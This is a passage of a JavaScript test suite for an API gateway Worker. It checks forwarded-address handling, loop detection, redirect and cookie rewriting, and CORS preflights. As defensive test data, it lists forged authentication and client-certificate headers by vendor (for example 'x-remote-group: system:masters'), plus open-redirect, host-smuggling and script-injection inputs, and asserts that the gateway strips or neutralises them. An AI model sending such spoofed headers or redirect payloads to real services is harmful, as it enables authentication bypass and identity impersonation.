    // The address appended is the one the rate limiter keys and a session records (src/client_address.rs). Before,
    // it was CF-Connecting-IP as sent: another spelling of the address the limiter had read, and a value such as
    // "203.0.113.7, 10.0.0.1" made 10.0.0.1 the list's last hop, which an origin reads as the client.
    for (const [sent, list, named] of [
      ["2001:DB8:0:0::0007", "198.51.100.1", "198.51.100.1, 2001:db8::7"],
      ["::ffff:203.0.113.7", "198.51.100.1", "198.51.100.1, 203.0.113.7"],
      ["::ffff:203.0.113.7", "198.51.100.1, 203.0.113.7", "198.51.100.1, 203.0.113.7"],
      // The last hop already named the client, in another spelling of its address: not named twice.
      ["2001:db8::7", "198.51.100.1, 2001:DB8::7", "198.51.100.1, 2001:DB8::7"],
      ["203.0.113.7", "198.51.100.1, ::ffff:203.0.113.7", "198.51.100.1, ::ffff:203.0.113.7"],
      ["203.0.113.7, 10.0.0.1", "198.51.100.1", "198.51.100.1"],
      ["not-an-address", "198.51.100.1", "198.51.100.1"],
    ]) {
      origin.reset();
      const r = await worker.fetch("/gw/open/echo", { headers: { "cf-connecting-ip": sent, "x-forwarded-for": list } });
      assert.equal(r.status, 200, sent);
      await r.arrayBuffer();
      assert.equal(lastRequest().headers["x-forwarded-for"], named, `${sent} after ${list}`);
    }
  });

  test("headers that vouch for the client's TLS certificate, its scheme or its address behind another proxy never reach the origin", async () => {
    // Each is what a TLS-terminating proxy in front of some origin sets, and the origin believes it: a client's own
    // would authenticate it with a certificate it only holds the public half of (certificates are public) or mark a
    // plain request HTTPS. RFC 9440 §4: a proxy must remove any Client-Cert / Client-Cert-Chain a client sent.
    const forged = {
      // RFC 9440's fields; ASP.NET Core's certificate forwarding (X-Client-Cert by default, X-ARR-ClientCert on
      // Azure App Service; MS-ASPNETCORE-CLIENTCERT from IIS's module).
      "client-cert": ":MIIBforged=:",
      "client-cert-chain": ":MIIBforged=:",
      "x-client-cert": "MIIBforged",
      "x-arr-clientcert": "MIIBforged",
      "ms-aspnetcore-clientcert": "MIIBforged",
      // Tomcat's SSLValve (ssl_client_cert, ssl_cipher), Keycloak's x509 lookups (ssl-client-cert, SSL_CLIENT_CERT),
      // HAProxy's documented X-SSL-* set, nginx's X-Client-Verify / X-Client-DN convention.
      ssl_client_cert: "MIIBforged",
      "ssl-cipher": "TLS_AES_128_GCM_SHA256",
      "x-ssl": "1",
      "x-ssl-client-cert": "MIIBforged",
      "x-ssl-client-verify": "0",
      "x-ssl-client-dn": "CN=admin",
      "x-client-verify": "SUCCESS",
      "x-client-dn": "CN=admin",
      // The request was HTTPS: IIS ARR's X-ARR-SSL, WebLogic's WL-Proxy-SSL.
      "x-arr-ssl": "2048|256|CN=forged",
      "wl-proxy-ssl": "true",
      // The client's address as another proxy names it: ingress-nginx, Google's, WebLogic's plug-in's, and the
      // names PHP and Java client-IP helpers read (HTTP_X_FORWARDED, HTTP_FORWARDED_FOR).
      "x-original-forwarded-for": "10.0.0.1",
      "x-proxyuser-ip": "10.0.0.1",
      "wl-proxy-client-ip": "10.0.0.1",
      "proxy-client-ip": "10.0.0.1",
      "x-forwarded": "for=10.0.0.1",
      "forwarded-for": "10.0.0.1",
    };
    // Names that merely start alike pass.
    const seen = await forwardsOnly(forged, { "x-client": "kept", ssl: "kept" });
    assert.equal(seen["x-forwarded-for"], "127.0.0.1", "the address the connection came from, as ever");
  });

  test("headers by which another auth proxy vouches for a user, or another TLS proxy for a certificate, never reach the origin", async () => {
    // An origin set up behind such a proxy signs in whoever the header names: the gateway is the edge's
    // authentication layer, and a client must not present itself as signed in by another one.
    const forged = {
      "remote-user": "admin", // Authelia
      "remote-groups": "admins",
      "remote-email": "admin@example.com",
      "x-remote-user": "admin", // Kubernetes' authenticating proxy
      "x-remote-group": "system:masters",
      "x-webauth-user": "admin", // Grafana, Gitea
      "x-webauth-email": "admin@example.com",
      "x-auth-request-user": "admin", // oauth2-proxy
      "x-auth-request-email": "admin@example.com",
      "x-forwarded-user": "admin",
      "x-forwarded-email": "admin@example.com",
      "x-forwarded-groups": "admins",
      "x-ms-client-principal": "eyJhdXRoX3R5cCI6ImFhZCJ9", // Azure App Service Easy Auth
      "x-ms-client-principal-name": "admin@example.com",
      "x-ms-client-principal-id": "00000000-0000-0000-0000-000000000001",
      "x-goog-authenticated-user-email": "accounts.google.com:admin@example.com", // Google IAP
      "x-goog-iap-jwt-assertion": "eyJforged",
      "x-amzn-oidc-data": "eyJforged", // AWS ALB
      "x-amzn-oidc-identity": "admin",
      "cf-access-authenticated-user-email": "admin@example.com", // Cloudflare Access
      "cf-access-jwt-assertion": "eyJforged",
      "x-envoy-internal": "true", // Envoy
      "x-envoy-external-address": "10.0.0.1",
      "x-consumer-username": "admin", // Kong, APISIX
      "x-credential-identifier": "admin-key",
      "x-authenticated-userid": "admin",
      "x-userinfo": "eyJzdWIiOiJhZG1pbiJ9", // Kong's OIDC plugin
      "x-id-token": "eyJforged",
      "x-auth-userid": "admin", // Keycloak Gatekeeper
      "x-auth-subject": "admin",
      "x-auth-roles": "admin",
      "x-auth-groups": "admins",
      "x-auth-audience": "admin-api", // …and the audience and expiry of the token it verified
      "x-auth-expiresin": "2099-01-01 00:00:00 +0000 UTC",
      "x-azure-clientip": "10.0.0.1", // Azure Front Door
      "x-azure-socketip": "10.0.0.1",
      "x-azure-fdid": "00000000-0000-0000-0000-000000000001",
      // An Envoy origin's timeout, from any client.
      "x-envoy-upstream-rq-timeout-ms": "600000",
      // A certificate as WebLogic's plug-in and AWS ALB's mutual TLS pass it.
      "wl-proxy-client-cert": "MIIBforged",
      "x-amzn-mtls-clientcert": "MIIBforged",
    };
    // API clients' own fields under the same vendors' names, and credentials the origin checks itself.
    const kept = {
      "x-goog-user-project": "p",
      "x-ms-version": "2021-08-06",
      "x-amzn-trace-id": "Root=1-0-0",
      "x-azure-ref": "0ref",
      "x-auth-token": "t",
      "x-auth-email": "user@example.com",
      "x-auth-username": "user",
      remote: "kept",
    };
    await forwardsOnly(forged, kept);
  });

  test("an OPTIONS request's Max-Forwards is decremented, and at 0 the gateway answers it as the final recipient (RFC 9110 §7.6.2)", async (t) => {
    const w = await startWorker({ vars: { GATEWAY_ROUTES: [{ name: "o", path: "/o", methods: ["GET", "PUT", "OPTIONS"], upstream: origin.url }] } });
    t.after(() => w.stop());
    origin.reset();
    const two = await w.fetch("/o/x", { method: "OPTIONS", headers: { "max-forwards": "2" } });
    assert.equal(two.status, 200);
    await two.arrayBuffer();
    assert.equal(lastRequest().method, "OPTIONS");
    assert.equal(lastRequest().headers["max-forwards"], "1", "one hop fewer left");
    const asked = origin.requests.length;
    const zero = await w.fetch("/o/x", { method: "OPTIONS", headers: { "max-forwards": "0" } });
    assert.equal(zero.status, 200);
    assert.equal(zero.headers.get("allow"), "GET, PUT, OPTIONS, HEAD", "as a 405 lists them");
    assert.equal(await zero.text(), "");
    assert.equal(origin.requests.length, asked, "not forwarded: the gateway is the final recipient");
    assert.match(zero.headers.get("traceparent") ?? "", /^00-/, "answered with the trace, as any gateway answer");
    // Other methods: Max-Forwards passes as sent (a recipient may ignore it for them).
    const get = await w.fetch("/o/x", { headers: { "max-forwards": "0" } });
    assert.equal(get.status, 200);
    await get.arrayBuffer();
    assert.equal(lastRequest().method, "GET");
    assert.equal(lastRequest().headers["max-forwards"], "0");
  });

  test("a route whose upstream leads back to the Worker is refused 508 after a few rounds, not sent round without end (CDN-Loop)", async (t) => {
    // An upstream naming the Worker's own host (or an origin proxying to it): each pass was forwarded again, spending
    // the route's limits, and the passes went on after the client's 504. Here an origin that proxies every request
    // back to the Worker, as such a host would, headers and all.
    const relay = await startOrigin();
    t.after(() => relay.stop());
    const w = await startWorker({ vars: { GATEWAY_ROUTES: [{ name: "round", path: "/round", upstream: relay.url, timeout_ms: 5000 }] } });
    t.after(() => w.stop());
    relay.handle(async (req, body, res) => {
      const headers = Object.fromEntries(Object.entries(req.headers).filter(([name]) => !["host", "connection"].includes(name)));
      const back = await fetch(new URL(req.url, w.url), { headers });
      res.writeHead(back.status, { "content-type": back.headers.get("content-type") ?? "text/plain" });
      res.end(Buffer.from(await back.arrayBuffer()));
    });
    const response = await w.fetch("/round/x", { headers: { "cdn-loop": "cloudflare" } });
    assert.equal(response.status, 508);
    assert.equal((await response.json()).error.code, "loop_detected");
    assert.deepEqual(
      relay.requests.map((r) => r.headers["cdn-loop"]),
      ["cloudflare, edgekit", "cloudflare, edgekit, edgekit", "cloudflare, edgekit, edgekit, edgekit", "cloudflare, edgekit, edgekit, edgekit, edgekit"],
      "each pass appends the gateway's entry to the list it came with, and the fifth is refused",
    );
  });

  test("a Max-Forwards: 0 OPTIONS lists every method its path is served with, when routes split them, as a 405 does", async (t) => {
    const w = await startWorker({
      vars: {
        GATEWAY_ROUTES: [
          { name: "read", path: "/o", methods: ["GET"], upstream: origin.url },
          { name: "write", path: "/o", methods: ["PUT", "OPTIONS"], upstream: origin.url },
        ],
      },
    });
    t.after(() => w.stop());
    const refused = await w.fetch("/o/x", { method: "PATCH" });
    assert.equal(refused.status, 405);
    await refused.arrayBuffer();
    const zero = await w.fetch("/o/x", { method: "OPTIONS", headers: { "max-forwards": "0" } });
    assert.equal(zero.status, 200);
    await zero.arrayBuffer();
    assert.equal(zero.headers.get("allow"), refused.headers.get("allow"), "GET is served at /o/x too");
    assert.equal(zero.headers.get("allow"), "GET, HEAD, PUT, OPTIONS");
  });

  test("redirects and cookie paths on the upstream map back under the route's prefix; answers without a body carry no coding", async () => {
    origin.reset();
    origin.handle((req, body, res) => {
      if (req.url === "/open/docs") return res.writeHead(301, { location: "/open/docs/" }).end(); // Django's APPEND_SLASH
      if (req.url === "/open/login") {
        const cookies = ["sid=1; Path=/open; HttpOnly", "theme=dark; Path=/", "seen=1; Path=/gw/open"];
        return res.writeHead(302, { location: `${origin.url}/open/login/form?next=%2F`, "set-cookie": cookies }).end();
      }
      if (req.url === "/open/away") return res.writeHead(302, { location: "https://idp.example/authorize" }).end();
      if (req.headers["if-none-match"] === '"e"') return res.writeHead(304, { etag: '"e"' }).end();
      res.writeHead(200, { "content-type": "text/plain", etag: '"e"' }).end("ok");
    });
    const to = async (path) => (await rawRequest(path)).headers.get("location");
    assert.equal(await to("/gw/open/docs"), "/gw/open/docs/");
    assert.equal(await to("/gw/open/login"), "/gw/open/login/form?next=%2F", "the origin's own address does not leak");
    assert.equal(await to("/gw/open/away"), "https://idp.example/authorize", "other sites are left alone");
    // A cookie the origin scopes to its /open is sent back by browsers only under /gw/open; the site's root and a
    // path an origin built from X-Forwarded-Prefix already reach the route.
    const login = await worker.fetch("/gw/open/login", { redirect: "manual" });
    assert.deepEqual(login.headers.getSetCookie(), ["sid=1; Path=/gw/open; HttpOnly", "theme=dark; Path=/", "seen=1; Path=/gw/open"]);
    const unchanged = await rawRequest("/gw/open/page", { headers: { "if-none-match": '"e"' } });
    assert.equal(unchanged.status, 304);
    assert.equal(unchanged.headers.get("content-encoding"), null);
  });

  test("a HEAD answered 204 or 304 carries no Content-Length, and a 205 only 0, though the origin sent one (RFC 9110 §8.6)", async () => {
    // Passed on as a HEAD's length, the origin's `Content-Length: 5` went out on the 204 (a GET's 204 went without),
    // and on a 304 too: that one may only say the 200's length, which the gateway cannot vouch for (the origin was
    // asked in the runtime's gzip or br, a client is sent the body coded anew or decoded). A 205 has no content
    // (§15.3.6): the runtime writes `Content-Length: 0` on it, and its HEAD said the origin's 5.
    for (const status of [204, 205, 304]) {
      origin.reset();
      origin.handle((req, body, res) => res.writeHead(status, { "content-length": "5", "x-kept": "1" }).end());
      // Passed straight on; and on a cached route (a miss, then a HIT for the 204), which said none before for the
      // 204 too (its fill is a GET, whose 204 the runtime hands over without one): coverage.
      const stamp = `${status}-${Date.now()}`;
      for (const path of ["/gw/open/gone", `/gw/cached/gone-${stamp}`, `/gw/cached/gone-${stamp}`]) {
        for (const method of ["HEAD", "GET"]) {
          const r = await rawRequest(path, { method, headers: { "if-none-match": '"v1"', "accept-encoding": "identity" } });
          assert.equal(r.status, status, `${status} ${method} ${path}`);
          assert.equal(r.headers.get("x-kept"), "1", `${status} ${method} ${path}`);
          const length = status === 205 ? "0" : null;
          assert.equal(r.headers.get("content-length"), length, `${status} ${method} ${path}`);
          assert.equal(r.body, "", `${status} ${method} ${path}`);
        }
      }
    }
  });

  test("a cookie's Domain naming the upstream, not the host the client asked, is removed: the browser would refuse the cookie", async () => {
    origin.reset();
    const upstreamHost = new URL(origin.url).hostname;
    origin.handle((req, body, res) => {
      const cookies = [
        `sid=1; Domain=${upstreamHost}; Path=/open; HttpOnly`,
        "site=2; Domain=.example.com",
        "own=3; Domain=api.example.com",
      ];
      res.writeHead(200, { "content-type": "text/plain", "set-cookie": cookies }).end("ok");
    });
    const asked = await rawRequest("/gw/open/login", { headers: { host: "api.example.com" } });
    assert.equal(asked.status, 200);
    assert.equal(lastRequest().headers["x-forwarded-host"], "api.example.com", "the client asked api.example.com");
    assert.equal(
      asked.headers.get("set-cookie"),
      "sid=1; Path=/gw/open; HttpOnly, site=2; Domain=.example.com, own=3; Domain=api.example.com",
      "the upstream's Domain removed (the cookie is api.example.com's alone), the client's own kept",
    );
    // A client on the upstream's own host keeps it.
    const same = await worker.fetch("/gw/open/login");
    assert.equal(new URL(worker.url).hostname, upstreamHost);
    assert.equal(same.headers.getSetCookie()[0], `sid=1; Domain=${upstreamHost}; Path=/gw/open; HttpOnly`);
  });

  test("a shared policy on a signed-in route shares its copy among readers but tells no cache in front to share it", async () => {
    origin.reset();
    origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain", "cache-control": "public, max-age=600" }).end("catalog"));
    const answers = [];
    for (const sub of ["reader-1", "reader-2"]) {
      const r = await worker.fetch("/gw/catalog/books", { headers: bearer(token(keys, "ed1", { sub })) });
      assert.equal(r.status, 200, sub);
      assert.equal(await r.text(), "catalog");
      answers.push(r);
    }
    assert.deepEqual(answers.map((r) => r.headers.get("x-cache")), ["MISS", "HIT"], "one copy for every reader");
    assert.equal(origin.requests.length, 1);
    for (const r of answers) {
      // RFC 9111 §3.5: `public` would let a shared cache in front serve it to a request with no credentials.
      assert.equal(r.headers.get("cache-control"), "private, max-age=60, stale-while-revalidate=30, stale-if-error=300");
      assert.equal(r.headers.get("surrogate-control"), "no-store");
      assert.match(r.headers.get("vary"), /Authorization, Cookie/);
    }
    const anonymous = await worker.fetch("/gw/catalog/books");
    assert.equal(anonymous.status, 401, "the gateway's own copy still goes only to those the route admits");
    await anonymous.arrayBuffer();
  });

  test("a signed-in route's answer the gateway passes on varies by the credentials its user came from", async () => {
    // The origin sees X-User-ID, never the cookie or the token the gateway read it from, so it cannot name them in
    // `Vary`: a browser told `private, max-age=60` answered the next user signed in on it with the first one's copy,
    // and a cache in front told `public` served it to requests with other credentials or none.
    const { cookie } = await login();
    for (const [path, headers] of [
      ["/gw/session/me", { cookie }],
      ["/gw/either/me", { cookie }],
      ["/gw/either/me", bearer(token(keys, "ed1", { sub: "vary-reader" }))],
      ["/gw/secure/me", bearer(token(keys, "ed1", { sub: "vary-reader" }))],
      // A cached route's answer the policy does not store goes out with the origin's headers too.
      ["/gw/catalog/vary-private", bearer(token(keys, "ed1", { sub: "vary-reader" }))],
    ]) {
      for (const cacheControl of ["private, max-age=60", "public, max-age=600"]) {
        origin.reset();
        origin.handle((req, body, res) =>
          res.writeHead(200, { "content-type": "text/plain", "cache-control": cacheControl, vary: "Accept-Encoding" }).end("mine"),
        );
        const r = await worker.fetch(`${path}?cc=${encodeURIComponent(cacheControl)}`, { headers });
        assert.equal(r.status, 200, path);
        await r.arrayBuffer();
        if (r.headers.get("x-cache") === "MISS" && cacheControl.startsWith("public")) continue; // stored: the policy's own
        const vary = (r.headers.get("vary") ?? "").split(",").map((v) => v.trim().toLowerCase());
        for (const name of ["accept-encoding", "authorization", "cookie"]) {
          assert.ok(vary.includes(name), `${path} (${cacheControl}): Vary ${r.headers.get("vary")} names ${name}`);
        }
      }
    }
    origin.reset();
  });

  test("an origin cannot set or clear the edge's own session and device cookies; its other cookies pass", async () => {
    origin.reset();
    origin.handle((req, body, res) => {
      const cookies = [
        "__Host-edgekit_session=chosen-by-origin; Path=/; Secure; HttpOnly",
        "__Secure-edgekit_session_device=; Max-Age=0; Path=/auth/login; Secure",
        "session=flask; Path=/",
      ];
      res.writeHead(200, { "content-type": "text/plain", "set-cookie": cookies }).end("ok");
    });
    for (const path of ["/gw/open/login", "/gw/cached/login"]) {
      const r = await worker.fetch(path);
      assert.equal(r.status, 200, path);
      const set = r.headers.getSetCookie();
      assert.deepEqual(set.map((c) => c.split("=")[0]), ["session"], `${path}: ${set}`);
      await r.arrayBuffer();
    }
  });

  test("an origin's Clear-Site-Data cannot clear the edge's cookies; the data it may clear is still cleared", async () => {
    // `"cookies"` (and `"*"`, every type) makes the browser delete every cookie of the site — the edge's session and
    // device cookies with them: an origin's logout page logged the user out of the edge.
    const cases = [
      ['"cookies"', null],
      ['"cache", "cookies", "storage"', '"cache", "storage"'],
      ['"*"', '"cache", "storage", "executionContexts"'],
      ['"storage"', '"storage"'],
      ['"Cookies", "cache"', '"cache"'],
    ];
    for (const [sent, passed] of cases) {
      origin.reset();
      origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain", "clear-site-data": sent }).end("bye"));
      const r = await worker.fetch(`/gw/open/logout?csd=${encodeURIComponent(sent)}`);
      assert.equal(r.status, 200, sent);
      assert.equal(r.headers.get("clear-site-data"), passed, sent);
      await r.arrayBuffer();
    }
    origin.reset();
  });

  test("a redirect is resolved as the client will resolve it (dot segments, scheme-relative, a percent-encoded host, backslashes, a tab) before it is mapped back", async () => {
    origin.reset();
    const answers = {
      // Route "item": upstream …/v2, prefix /gw/open. Left unresolved, the first two reached /gw/v2/… and /v2/….
      "/v2/items/1": "/v2/../v2/items/3",
      "/v2/items/2": "/other/../v2/items/4",
      "/v2/items/5": "/v2/%2E%2E/v2/items/5/./x?next=/../y",
      "/v2/items/6": `${origin.url}/v2/items/6/../7`,
      // Off the upstream's base once resolved: left as the origin wrote it (the client resolves it alike).
      "/v2/items/8": "/v2/../admin",
      // No other host however the dots fall.
      "/v2/items/9": "/v2/..//evil.example/",
      // Route "open": upstream at its root, prefix /gw. A path the origin wrote under /gw is there only once resolved.
      "/open/dots": "/gw/../open/x",
      // Relative, resolved against the path the origin was asked for: the client, resolving against its own, climbed
      // past the prefix to /v2/items/2.
      "/v2/items/10": "../../v2/items/2",
      "/v2/items/11": "../12?x=1",
      // On the upstream as the client's URL parser reads it: scheme-relative (on the scheme the origin was asked
      // with), and the host percent-encoded (WHATWG URL decodes it). Left as written, both sent the client to the
      // origin's own address.
      "/v2/items/12": `//127.0.0.1:${origin.port}/v2/items/12/x`,
      "/v2/items/13": `http://127%2E0.0.1:${origin.port}/v2/items/13?y=1`,
      // So are a `\` for a `/` (WHATWG URL reads them alike on http), `///` and a tab, which were left as written.
      "/v2/items/14": `/\\127.0.0.1:${origin.port}/v2/items/14/x`,
      "/v2/items/15": `http:\\\\127.0.0.1:${origin.port}\\v2\\items\\15?z=\\`,
      "/v2/items/16": `http:///127.0.0.1:${origin.port}/v2/items/16`,
      "/v2/items/17": `/\t/127.0.0.1:${origin.port}/v2/items/17`,
    };
    origin.handle((req, body, res) => {
      const location = answers[req.url];
      if (location) return res.writeHead(302, { location, "content-location": location }).end();
      res.writeHead(404).end();
    });
    const cases = [
      ["/gw/open/items/1", "/gw/open/items/3"],
      ["/gw/open/items/2", "/gw/open/items/4"],
      ["/gw/open/items/5", "/gw/open/items/5/x?next=/../y"],
      ["/gw/open/items/6", "/gw/open/items/7"],
      ["/gw/open/items/8", "/v2/../admin"],
      ["/gw/open/items/9", "/v2/..//evil.example/"],
      ["/gw/open/dots", "/gw/open/x"],
      ["/gw/open/items/10", "/gw/open/items/2"],
      ["/gw/open/items/11", "/gw/open/12?x=1"],
      ["/gw/open/items/12", "/gw/open/items/12/x"],
      ["/gw/open/items/13", "/gw/open/items/13?y=1"],
      ["/gw/open/items/14", "/gw/open/items/14/x"],
      ["/gw/open/items/15", "/gw/open/items/15?z=\\"],
      ["/gw/open/items/16", "/gw/open/items/16"],
      ["/gw/open/items/17", "/gw/open/items/17"],
    ];
    for (const [path, expected] of cases) {
      const r = await rawRequest(path);
      assert.equal(r.status, 302, path);
      assert.equal(r.headers.get("location"), expected, path);
      assert.equal(r.headers.get("content-location"), expected, `${path}: Content-Location too`);
    }
    origin.reset();
  });

  test("a Content-Location on the upstream maps back under the route's prefix, as a Location does", async () => {
    origin.reset();
    origin.handle((req, body, res) => {
      if (req.url === "/open/made") {
        return res.writeHead(201, { location: "/open/items/9", "content-location": `${origin.url}/open/items/9` }).end("{}");
      }
      res.writeHead(200, { "content-type": "text/plain", "content-location": "/open/page.en" }).end("ok");
    });
    const made = await rawRequest("/gw/open/made", { method: "POST", body: "{}" });
    assert.equal(made.status, 201);
    assert.equal(made.headers.get("location"), "/gw/open/items/9");
    assert.equal(made.headers.get("content-location"), "/gw/open/items/9", "the origin's own address does not leak");
    const page = await rawRequest("/gw/open/page");
    assert.equal(page.headers.get("content-location"), "/gw/open/page.en", "a path the gateway routes");
  });

  test("a Refresh's URL on the upstream maps back under the route's prefix, as a Location does (nginx's proxy_redirect)", async () => {
    const cases = [
      ["0; url=/open/login", "0; url=/gw/open/login"],
      ["5;URL='/open/next?x=1'", "5;URL='/gw/open/next?x=1'"],
      [`3, url=${"ORIGIN"}/open/away`, "3, url=/gw/open/away"],
      ["0; url=https://elsewhere.example/x", "0; url=https://elsewhere.example/x"],
      ["30", "30"],
    ];
    for (const [sent, passed] of cases) {
      origin.reset();
      origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain", refresh: sent.replace("ORIGIN", origin.url) }).end("wait"));
      const r = await rawRequest("/gw/open/wait");
      assert.equal(r.status, 200, sent);
      assert.equal(r.headers.get("refresh"), passed, sent);
    }
    origin.reset();
  });

  test("WebSocket handshakes answer 501, a GET or HEAD with a body 400, and Expect: 100-continue never reaches the origin", async () => {
    origin.reset();
    const handshake = await new Promise((resolve, reject) => {
      const req = httpRequest(new URL("/gw/open/socket", worker.url), {
        agent: false,
        headers: { connection: "Upgrade", upgrade: "websocket", "sec-websocket-version": "13", "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==" },
      });
      req.on("upgrade", (res, socket) => {
        socket.destroy();
        resolve({ status: 101 });
      });
      req.on("response", (res) => {
        const chunks = [];
        res.on("data", (c) => chunks.push(c));
        res.on("end", () => resolve({ status: res.statusCode, body: Buffer.concat(chunks).toString() }));
      });
      req.on("error", reject);
      req.end();
    });
    assert.equal(handshake.status, 501);
    assert.equal(JSON.parse(handshake.body).error.code, "upgrade_unsupported");
    assert.equal(JSON.parse(handshake.body).error.message, "route open does not accept WebSocket connections");
    const query = JSON.stringify({ query: { term: { owner: "alice" } } });
    const search = await rawRequest("/gw/open/index/_search", { headers: { "content-type": "application/json", "content-length": Buffer.byteLength(query) }, body: query });
    assert.equal(search.status, 400, "not forwarded as a search without its query");
    assert.equal(JSON.parse(search.body).error.code, "body_not_forwarded");
    assert.equal(origin.requests.length, 0);
    const upload = await rawRequest("/gw/open/upload", { method: "POST", headers: { "content-type": "text/plain", expect: "100-continue", "content-length": 5 }, body: "hello" });
    assert.equal(upload.status, 200, upload.body);
    assert.equal(lastRequest().headers.expect, undefined);
    assert.equal(lastRequest().body.toString(), "hello");
  });

  test("a CORS preflight's Max-Forwards counts as any OPTIONS': one lower to the origin, and at 0 not forwarded (RFC 9110 §7.6.2)", async () => {
    origin.reset();
    origin.handle((req, body, res) => res.writeHead(204, { "access-control-allow-origin": "https://app.example" }).end());
    const asking = { origin: "https://app.example", "access-control-request-method": "GET" };
    const two = await rawRequest("/gw/open/pre", { method: "OPTIONS", headers: { ...asking, "max-forwards": "2" } });
    assert.equal(two.status, 204);
    assert.equal(lastRequest().method, "OPTIONS");
    assert.equal(lastRequest().headers["max-forwards"], "1", "one hop fewer left");
    const asked = origin.requests.length;
    const zero = await rawRequest("/gw/open/pre", { method: "OPTIONS", headers: { ...asking, "max-forwards": "0" } });
    assert.equal(origin.requests.length, asked, "not forwarded: the gateway is the final recipient");
    assert.equal(zero.status, 200);
    // The methods the path is served with, OPTIONS (the preflight the gateway serves there) among them, as the 405 of
    // a preflight asking for a method the route does not take lists them.
    const refused = await rawRequest("/gw/open/pre", { method: "OPTIONS", headers: { ...asking, "access-control-request-method": "PATCH" } });
    assert.equal(refused.status, 405);
    assert.equal(zero.headers.get("allow"), refused.headers.get("allow"));
    assert.equal(zero.headers.get("allow"), "GET, POST, PUT, DELETE, HEAD, OPTIONS");
    assert.equal(zero.headers.get("access-control-allow-origin"), null, "no CORS answer but the origin's");
    origin.reset();
  });

  test("a CORS preflight meets its route by the method it asks about and reaches the origin without credentials", async () => {
    origin.reset();
    origin.handle((req, body, res) => {
      if (req.method !== "OPTIONS") return res.writeHead(200).end("ok");
      res.writeHead(204, { "access-control-allow-origin": "https://app.example", "access-control-allow-methods": "GET, POST", "access-control-allow-headers": "authorization" }).end();
    });
    const preflight = (path, method) =>
      rawRequest(path, { method: "OPTIONS", headers: { origin: "https://app.example", "access-control-request-method": method, "access-control-request-headers": "authorization" } });
    for (const path of ["/gw/secure/things", "/gw/secure/admin", "/gw/limited"]) {
      const answer = await preflight(path, "GET");
      assert.equal(answer.status, 204, `${path}: ${answer.body}`);
      assert.equal(answer.headers.get("access-control-allow-origin"), "https://app.example");
      assert.equal(lastRequest().method, "OPTIONS");
      assert.equal(lastRequest().headers["x-user-id"], undefined, "no identity on a preflight");
    }
    // An origin that answers any OPTIONS as a GET (PHP scripts, Go's HandleFunc): a preflight sent by hand with a
    // token and a cookie gets neither through, and no body or other header back.
    origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain", "set-cookie": "s=1", "access-control-allow-origin": "*" }).end("secret"));
    const forged = await rawRequest("/gw/secure/admin", {
      method: "OPTIONS",
      headers: { origin: "https://x.example", "access-control-request-method": "GET", authorization: "Bearer forged", cookie: "sid=x" },
    });
    assert.equal(forged.status, 200);
    assert.equal(forged.body, "", "no body");
    assert.equal(forged.headers.get("set-cookie"), null);
    assert.equal(forged.headers.get("content-type"), null);
    assert.equal(forged.headers.get("access-control-allow-origin"), "*");
    assert.equal(lastRequest().headers.authorization, undefined);
    assert.equal(lastRequest().headers.cookie, undefined);
    const refused = await preflight("/gw/secure/things", "DELETE");
    assert.equal(refused.status, 405, "a method the route does not serve");
    assert.match(refused.headers.get("allow"), /GET/);
    const notPreflight = await rawRequest("/gw/secure/things", { method: "OPTIONS", headers: { "access-control-request-method": "GET" } });
    assert.equal(notPreflight.status, 405, "without Origin, an OPTIONS the route does not list");
    assert.equal((await rawRequest("/gw/secure/things")).status, 401, "the GET itself still needs its token");
    assert.equal(origin.requests.length, 4);
  });

  test("a preflight refused for the method it asks about is answered 405 naming that method, with OPTIONS in Allow (RFC 9110 §15.5.6)", async () => {
    origin.reset();
    const asking = { origin: "https://app.example", "access-control-request-method": "DELETE" };
    const refused = await rawRequest("/gw/secure/things", { method: "OPTIONS", headers: asking });
    assert.equal(refused.status, 405);
    // The route serves GET (HEAD with it) and POST, and OPTIONS as the preflight this request is.
    assert.deepEqual(refused.headers.get("allow").split(", ").sort(), ["GET", "HEAD", "OPTIONS", "POST"]);
    assert.match(JSON.parse(refused.body).error.message, /method DELETE is not allowed/);
    assert.equal(refused.headers.get("access-control-allow-origin"), "https://app.example", "readable by the listed site");
    // An OPTIONS that is no preflight is not served here: its 405 lists OPTIONS nowhere.
    const plain = await rawRequest("/gw/secure/things", { method: "OPTIONS" });
    assert.equal(plain.status, 405);
    assert.deepEqual(plain.headers.get("allow").split(", ").sort(), ["GET", "HEAD", "POST"]);
    assert.equal(origin.requests.length, 0);
  });

  test("a preflight asking whether an OPTIONS request may be sent, to a route that does not forward OPTIONS, is refused without Allow claiming OPTIONS", async () => {
    origin.reset();
    const refused = await rawRequest("/gw/secure/things", { method: "OPTIONS", headers: { origin: "https://app.example", "access-control-request-method": "OPTIONS" } });
    assert.equal(refused.status, 405);
    const allow = refused.headers.get("allow").split(", ").sort();
    assert.deepEqual(allow, ["GET", "HEAD", "POST"], "the OPTIONS it asks about is not served: Allow does not list it");
    assert.match(JSON.parse(refused.body).error.message, /method OPTIONS is not allowed here; allowed: /);
    assert.equal(refused.headers.get("access-control-allow-methods"), null);
    assert.equal(origin.requests.length, 0);
  });

  test("pages of the sites GATEWAY_CORS_ORIGINS lists can read the gateway's own error answers, and only those", async () => {
    origin.reset();
    origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain" }).end("the origin's"));
    const app = { origin: "https://app.example" };
    const reader = token(keys, "ed1", { permissions: ["read"] });
    const refusals = [
      ["/gw/secure/things", { ...app, ...bearer("not-a-token") }, 401],
      ["/gw/secure/admin", { ...app, ...bearer(reader) }, 403],
      ["/gw-nothing-here", app, 404],
      ["/gw/secure/things?q=%3Cscript%3E", { ...app, ...bearer(reader) }, 403],
    ];
    for (const [path, headers, status] of refusals) {
      const answer = await worker.fetch(path, { headers });
      assert.equal(answer.status, status, path);
      assert.equal(answer.headers.get("access-control-allow-origin"), "https://app.example", path);
      assert.equal(answer.headers.get("access-control-allow-credentials"), "true", path);
      assert.match(answer.headers.get("access-control-expose-headers"), /WWW-Authenticate, Retry-After/, path);
      assert.match(answer.headers.get("vary") ?? "", /Origin/, path);
      await answer.arrayBuffer();
    }
    const notAllowed = await worker.fetch("/gw/secure/things", { method: "DELETE", headers: app });
    assert.equal(notAllowed.status, 405);
    assert.equal(notAllowed.headers.get("access-control-allow-origin"), "https://app.example");
    // Another site, or a request without Origin, reads nothing more than before.
